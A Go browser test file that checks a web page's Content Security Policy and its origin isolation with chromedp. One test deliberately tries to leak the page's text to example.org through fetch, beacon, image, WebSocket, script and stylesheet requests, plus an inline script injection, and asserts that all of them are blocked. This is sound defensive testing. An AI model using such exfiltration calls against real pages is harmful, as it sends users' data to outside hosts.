package browser

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// Nothing leaves the page. Every test looks for strays when it ends; these try to make some.

func TestAVisitAsksForNothingElsewhere(t *testing.T) {
	p := open(t)
	p.setText(given(t, "run.yaml"))
	p.setText(given(t, "sources.yaml"))
	p.reload()
	origins := eval[[]string](p, `[...new Set(performance.getEntriesByType("resource").map((r) => new URL(r.name).origin))]`)
	if !slices.Equal(origins, []string{p.host.url}) {
		t.Errorf("resources come from %v", origins)
	}
}

func TestThePolicyLetsNothingOut(t *testing.T) {
	p := open(t)
	p.forgive(`Content Security Policy|policy: |Trusted|Failed to load|Fetch API|net::`)
	outcome := eval[map[string]string](p, `(async () => {
		const tries = {
			fetch: () => fetch("https://example.org/?" + measuredRunPage.text()),
			beacon: async () => { if (!navigator.sendBeacon("https://example.org/", "x")) throw 0; await new Promise((_, no) => addEventListener("securitypolicyviolation", no, { once: true })); },
			image: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "https://example.org/i.png"; }),
			socket: () => new Promise((yes, no) => { const s = new WebSocket("wss://example.org/"); s.onopen = yes; s.onerror = no; }),
			script: () => new Promise((yes, no) => { const s = document.createElement("script"); s.src = "https://example.org/s.js"; s.onload = yes; s.onerror = no; document.head.append(s); }),
			inline: () => new Promise((yes, no) => { globalThis.ran = false; const s = document.createElement("script"); s.textContent = "globalThis.ran = true"; document.head.append(s); globalThis.ran ? yes() : no(); }),
			style: () => new Promise((yes, no) => { const s = document.createElement("link"); s.rel = "stylesheet"; s.href = "https://example.org/s.css"; s.onload = yes; s.onerror = no; document.head.append(s); }),
		};
		const outcome = {};
		for (const [name, act] of Object.entries(tries)) outcome[name] = await act().then(() => "went out", () => "stayed");
		return outcome;
	})()`)
	for name, what := range outcome {
		if what != "stayed" {
			t.Errorf("%s %s", name, what)
		}
	}
	if len(outcome) != 7 {
		t.Errorf("tried %v", outcome)
	}
}

func TestThePageStatesItsPolicyForHostsThatSendNone(t *testing.T) {
	p := open(t)
	policy := eval[string](p, `document.querySelector('meta[http-equiv="Content-Security-Policy"]').content`)
	for _, want := range []string{"default-src 'none'", "connect-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "base-uri 'none'", "form-action 'none'"} {
		if !strings.Contains(policy, want) {
			t.Errorf("no %s in %q", want, policy)
		}
	}
}

// The page works under any path of a host.
func TestAddressesAreRelative(t *testing.T) {
	p := open(t)
	html := eval[string](p, `fetch("/").then((r) => r.text())`)
	for _, found := range regexp.MustCompile(`(?:src|href)="([^"]*)"`).FindAllStringSubmatch(html, -1) {
		if strings.HasPrefix(found[1], "/") || strings.Contains(found[1], ":") {
			t.Errorf("%s is not relative", found[1])
		}
	}
}

func TestLinksOutOfTheReferenceOpenElsewhere(t *testing.T) {
	p := open(t)
	links := eval[[]struct{ Href, Rel, Target string }](p, growing+reference+`.then((r) => r.pages.flatMap((page) =>
		[...grow(page.body).querySelectorAll("a[href^=http]")].map((a) => ({ href: a.href, rel: a.rel, target: a.target }))))`)
	if len(links) == 0 {
		t.Error("no link leads out")
	}
	for _, link := range links {
		if link.Rel != "noopener" || link.Target != "_blank" {
			t.Errorf("%s takes the page's place", link.Href)
		}
	}
}

func TestWithoutScriptThePageSaysWhatItIs(t *testing.T) {
	p := blank(t)
	p.withoutScript()
	p.do(chromedp.Navigate(p.host.url + "/"))
	words, err := chromedp.Run(p.ctx, chromedp.Text(chromedp.CSS("main.noscript")))
	if err != nil || !strings.Contains(words, "needs JavaScript") {
		t.Errorf("the page says %q, %v", words, err)
	}
}
